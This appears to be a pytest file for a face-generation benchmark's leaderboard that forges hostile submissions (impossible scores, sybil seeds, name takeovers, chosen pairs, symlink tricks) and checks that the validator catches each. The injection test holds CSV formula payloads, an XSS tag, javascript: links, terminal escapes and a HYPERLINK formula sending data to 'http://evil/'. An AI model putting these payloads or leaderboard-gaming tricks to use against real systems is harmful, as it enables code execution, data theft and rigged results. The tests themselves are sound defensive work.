"""What a stranger can do to a leaderboard, one forgery a test, and what catches each.

The first tests are the attacks that were tried on version 0.1.0, by the names of their scripts; others follow that
MTEB, RobustBench and Kaggle had to guard against: copied results, look-alike names, chosen pairs, anonymous results.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from forgery import PROTOCOL, commit, forge, load, make_repository, own, plus, ranks

from dgbench.core.digests import digest
from dgbench.core.record import BinValue
from dgbench.results.checks.check import check
from dgbench.results.records.store import PAIR_SCORES, RECORD, read_record, write_record
from dgbench.results.tables.leaderboard import build

_HONEST = {"target": "", "blurred-target": "", "dg": (2, 2), "copy-source": "", "black": ""}  # a soft dg is never first


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The repository that every test copies."""
    return make_repository(tmp_path_factory.mktemp("pristine"))


@pytest.fixture
def results(pristine: Path, tmp_path: Path) -> Path:
    """A results repository of five honest records, ``work`` checked out on top of ``main``."""
    import shutil

    shutil.copytree(pristine.parent, tmp_path / "repo", symlinks=True)
    return tmp_path / "repo" / "results"


def _found(results: Path, **options: object) -> dict[str, str]:
    """Kind → message of what the check says once the forger has built the tables and committed."""
    build(results)
    commit(results.parent, "work")
    problems = check(results, base="main", readmes=[], **options)  # type: ignore[arg-type]
    return {problem.kind: problem.message for problem in problems}


def test_the_honest_repository_is_clean_and_ranked(results: Path) -> None:
    assert _found(results) == {} and ranks(results) == _HONEST


def test_impossible(results: Path) -> None:
    """SSIM 1.7 and a pose of -90 degrees ranked first: no card said what a value can be."""
    impossible = {"ssim": 1.7, "csim": 3.0, "psnr": 500.0, "l1": -4.0, "pose": -90.0, "landmark_nme": -1.0}
    forge(results, "dg", "super-net", scores=impossible, values={"fd[synthface]": -12.0, "kd[synthface]": -5.0})
    own(results, "super-net")
    assert set(_found(results)) == {"range"}
    (said,) = {p.message for p in check(results, readmes=[]) if p.message.startswith("ssim: 1.7")}
    assert said == "ssim: 1.7 is outside -1..1, what its card can give"
    assert str(ranks(results)["super-net"]).startswith("impossible value of ssim, csim")


def test_impossible_only_ssim(results: Path) -> None:
    """A record with the primary metric alone took rank 3."""
    forge(results, "dg", "only-ssim", scores={"ssim": plus("ssim", 0.3)}, keep=["ssim"])
    own(results, "only-ssim")
    found = _found(results)
    assert set(found) == {"metrics"} and found["metrics"].startswith("lacks csim, psnr, l1, pose")
    assert ranks(results) == _HONEST | {"only-ssim": ranks(results)["only-ssim"]}
    assert str(ranks(results)["only-ssim"]).startswith("lacks csim")


def test_board_sybil(results: Path) -> None:
    """25 seeds with an altered card won the vote on the card, and every honest row lost its rank."""
    altered = {"ssim": {"direction": "lower", "definition": "mean of nothing"}}
    for seed in range(25):
        forge(results, "dg", "sybil", run_id=f"{seed}-bbbbbbbbbbbbbb{seed:02d}", cards=altered, seed=seed,
              method={"digest": digest("sybil")})  # fmt: skip
    own(results, "sybil")
    assert set(_found(results)) == {"card"}
    assert ranks(results, without=["sybil"]) == _HONEST
    assert ranks(results)["sybil"] == "unknown metric card: ssim"


def test_board_takeover(results: Path) -> None:
    """A stranger's record under the name ``dg``, with a ``supersedes``, unranked the real one."""
    victim, _, _ = load(results, "dg")
    forge(results, "dg", "dg", run_id="0-cccccccccccccccc", scores={"ssim": 0.01}, supersedes=victim.run_id)
    found = _found(results)
    assert set(found) == {"owner"}
    assert found["owner"].startswith("is a new record under the name dg, and the maintainers speaks for it")
    place = f"{PROTOCOL}/v1/dg/0-cccccccccccccccc"
    (results / "corrections.yaml").write_text(f"{place}: we ran it again with the repaired crop\n")
    assert _found(results) == {}
    assert set(_found(results, trusted=False)) == {"owner"}


@pytest.mark.parametrize("which", ["one", "each"])
def test_board_cluster(results: Path, which: str) -> None:
    """One forged row changed everyone's ranks: identities were read from the first table."""

    def one(table: pd.DataFrame) -> pd.DataFrame:
        return table.assign(source_identity="x", reference_identity="x")

    def each(table: pd.DataFrame) -> pd.DataFrame:
        rows = range(len(table))
        return table.assign(source_identity=[f"p{i}" for i in rows], reference_identity=[f"q{i}" for i in rows])

    forge(results, "dg", "aaa", scores={"ssim": plus("ssim", 0.002)}, edit={"one": one, "each": each}[which])
    own(results, "aaa")
    assert set(_found(results)) == {"pairs"}
    assert ranks(results) == _HONEST | {"aaa": "pairs are not the protocol's"}


def test_injection(results: Path) -> None:
    """Formulas, escape signs and script links in names, notes, dates and sources reached CSV, Markdown and terminal."""
    page = "<img src=x onerror=alert(1)>"
    for number in (1, 2):
        folder = forge(
            results, "dg", "evil", run_id=f"0-eeeeeeeeeeeeeee{number}", method={
                "digest": f"d{number}", "checkpoint_sha256": page,
                "parameters": {"=cmd|' /C calc'!A1": str(number), "md": f"[click](javascript:alert(1)) \x1b[31m{page}"},
            },
        )  # fmt: skip
        record = read_record(folder)
        _, table, environment = load(results, "dg")
        base = next(metric for metric in record.metrics if metric.name.startswith("fd["))
        card = base.card.model_copy(update={"name": "=cmd|' /C calc'!A0", "title": page, "definition": page})
        extra = base.model_copy(
            update={"name": card.name, "card": card, "card_digest": card.digest, "note": f"\x1b]0;pwn\x07{page}"}
        )
        changed = {
            "metrics": (*record.metrics, extra), "created": "=1+cmd|x!A0", "notes": (page, "\x1b]0;pwn\x07\x1b[31mred"),
            "source": '=HYPERLINK("http://evil/?"&A1,"x")',
        }  # fmt: skip
        write_record(folder, record.model_copy(update=changed), table, environment)
    own(results, "evil")
    assert {"card", "text"} <= set(_found(results))
    for file in (results / "leaderboards").iterdir():
        text = file.read_text(encoding="utf-8")
        assert "\x1b" not in text and "](javascript:" not in text and "<img" not in text.replace(",<img", ""), file
        if file.suffix == ".csv":
            cells = [cell.strip('"') for line in text.splitlines() for cell in line.split(",")]
            assert not [cell for cell in cells if cell.startswith(("=", "@"))], file


def test_target_share() -> None:
    """In three protocols of version 1 each target was handed out as the input of another pair; in version 2 in none."""
    from dgbench.protocols.registry import list_protocols

    crossed = [p for p in list_protocols() if p.protocol.pairs == "frozen" and p.protocol.id.endswith("-cross")]
    newest = {p.protocol.id: p for p in sorted(crossed, key=lambda held: held.protocol.version)}
    assert len(newest) > 4
    for loaded in newest.values():
        pairs = loaded.pairs()
        given = {key for pair in pairs for key in (pair.source, pair.reference)}
        assert not [pair for pair in pairs if pair.target in given], loaded.protocol.name


# Ten more.


def test_a_name_that_looks_like_anothers(results: Path) -> None:
    """``D-G`` beside ``dg``: readers would take the row for the known method's."""
    forge(results, "dg", "D-G", scores={"ssim": plus("ssim", 0.01)})
    assert _found(results)["owner"].startswith(("D-G looks like dg", "is a new record under the name dg"))


def test_a_seed_that_joins_anothers_row(results: Path) -> None:
    """``dg-seed7`` would be averaged into the row of ``dg``."""
    forge(results, "dg", "dg-seed7", scores={"ssim": plus("ssim", 0.05)})
    assert "is a new record under the name dg" in _found(results)["owner"]


def test_a_name_that_nobody_speaks_for(results: Path) -> None:
    forge(results, "dg", "anonymous")
    assert "anonymous has no entry in methods.yaml" in _found(results)["owner"]


def test_a_name_taken_over_in_the_list_of_owners(results: Path) -> None:
    file = results / "methods.yaml"
    file.write_text(file.read_text().replace("dg: {contact: the maintainers}", "dg: {contact: mallory@example.org}"))
    assert "the entry of dg changed or is gone" in _found(results)["owner"]


def test_chosen_pairs_passed_off_as_the_whole(results: Path) -> None:
    """The best half of the pairs, and a record that says that the protocol has no more."""

    def best(table: pd.DataFrame) -> pd.DataFrame:
        return table.nlargest(192, "ssim").sort_values("pair_id")

    record, table, _ = load(results, "dg")
    ids = digest(sorted(best(table)["pair_id"]))
    less = {"expected": 192, "found": 192, "generated": 192, "pair_set": ids, "protocol_pair_set": ids, "failed": {}}
    forge(results, "dg", "chosen", edit=best, coverage=record.coverage.model_copy(update=less))
    own(results, "chosen")
    assert _found(results)["protocol"].startswith("expects 192 pairs of synthface-mini-cross@1, which has 384")
    assert ranks(results) == _HONEST | {"chosen": "pair set differs"}


def test_harder_pose_bins_filled_with_easy_pairs(results: Path) -> None:
    """Bins decide the curves over yaw: the best pairs are said to be the profiles."""

    def turned(table: pd.DataFrame) -> pd.DataFrame:
        order = table["ssim"].rank(method="first")
        return table.assign(bin=np.where(order > 192, "90", "0"))

    forge(results, "dg", "turned", edit=turned)
    own(results, "turned")
    assert _found(results)["pairs"].startswith("bin of pair ")
    assert ranks(results)["turned"] == "pairs are not the protocol's"


def test_failures_left_out_of_the_mean(results: Path) -> None:
    """A record whose value is the mean over measured pairs, its failures kept in the table."""
    folder = forge(results, "dg", "no-failures", whole=False)
    own(results, "no-failures")
    data = json.loads((folder / RECORD).read_text())
    csim = next(metric for metric in data["metrics"] if metric["name"] == "csim")
    assert csim["n_scored"] < csim["n_expected"]
    csim["value"] = csim["measured_only"]
    (folder / RECORD).write_text(json.dumps(data))
    assert _found(results)["score"].startswith("csim: value ")


def test_pose_bins_that_say_more_than_the_table(results: Path) -> None:
    folder = forge(results, "dg", "curves")
    own(results, "curves")
    record = read_record(folder)
    _, table, environment = load(results, "dg")
    metrics = [
        metric.model_copy(update={"bins": tuple(BinValue(bin=b.bin, n=b.n, value=0.9) for b in metric.bins)})
        if metric.name == "ssim"
        else metric
        for metric in record.metrics
    ]
    write_record(folder, record.model_copy(update={"metrics": tuple(metrics)}), table, environment)
    assert "score" in _found(results)


def test_a_protocol_of_ones_own_under_a_known_name(results: Path) -> None:
    """Another text of the protocol, released by the forger's own lock, in the same pull request."""
    folder = results.parent / "protocols" / PROTOCOL / "v1"
    text = (folder / "protocol.yaml").read_text()
    (folder / "protocol.yaml").write_text(text.replace("primary_metric: ssim", "primary_metric: detection"))
    found = _found(results)
    assert "a file of a released protocol changed" in found["protocol"] or "was scored on another" in found["protocol"]
    assert ranks(results)["dg"] != (3, 3)  # nothing is ranked by the forger's rule
    from dgbench.results.records.released import LOCK, write_lock

    (results.parent / "protocols" / LOCK).unlink()
    write_lock(results.parent / "protocols")
    places = {p.place for p in check(results, base="main", readmes=[])}
    assert "protocols/RELEASED.json" in places


def test_older_cards_do_not_mix_with_newer(results: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A judge that was replaced for a reason: records by it stay, readable and apart, and are no error."""
    from dgbench.results.records import card_lock

    lock = card_lock.read_card_lock()
    held = lock.of("csim", "embedded")[-1]
    newer = held.model_copy(update={"card": held.card.model_copy(update={"version": 99})})
    card_lock.write_card_lock(lock.with_current([newer]), tmp_path / "cards.json")
    monkeypatch.setattr(card_lock, "FILE", tmp_path / "cards.json")
    forge(results, "dg", "renewed", cards={"csim": {"version": 99}})
    own(results, "renewed")
    assert _found(results) == {}
    assert ranks(results) == {"renewed": (1, 1)}
    pages = (results / "leaderboards" / f"{PROTOCOL}@1.md").read_text()
    assert "## Judges: embedded (older cards " in pages and pages.index("renewed") < pages.index("older cards")


@pytest.mark.parametrize("name", [RECORD, PAIR_SCORES, "leaderboards", "published/x.yaml", ".lock-owner.json"])
def test_links_are_followed_by_no_verb(results: Path, tmp_path: Path, name: str) -> None:
    """A committed link overwrote a file outside the repository with a record's text, and that file was run."""
    from dgbench.core.errors import UsageError
    from dgbench.report.site import build_report
    from dgbench.results.records.store import find_records, publish

    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "profile"
    victim.write_text("precious")
    scored = tmp_path / "scored"
    folder = next((results / PROTOCOL / "v1" / "dg").iterdir())
    import shutil

    shutil.copytree(folder, scored)
    place = folder / name if name in (RECORD, PAIR_SCORES) else results / name
    target = victim if "." in name else outside
    if place.is_dir():
        shutil.rmtree(place)
    place.parent.mkdir(exist_ok=True)
    place.unlink(missing_ok=True)
    place.symlink_to(target)
    verbs: list[Callable[[], object]] = [
        lambda: build(results),
        lambda: find_records(results),
        lambda: build_report(results, tmp_path / "site"),
        lambda: publish(scored, results),
    ]
    for verb in verbs:
        with pytest.raises(UsageError, match="link"):
            verb()
    assert {problem.kind for problem in check(results, readmes=[])} == {"link"}
    assert victim.read_text() == "precious" and [file.name for file in outside.iterdir()] == ["profile"]
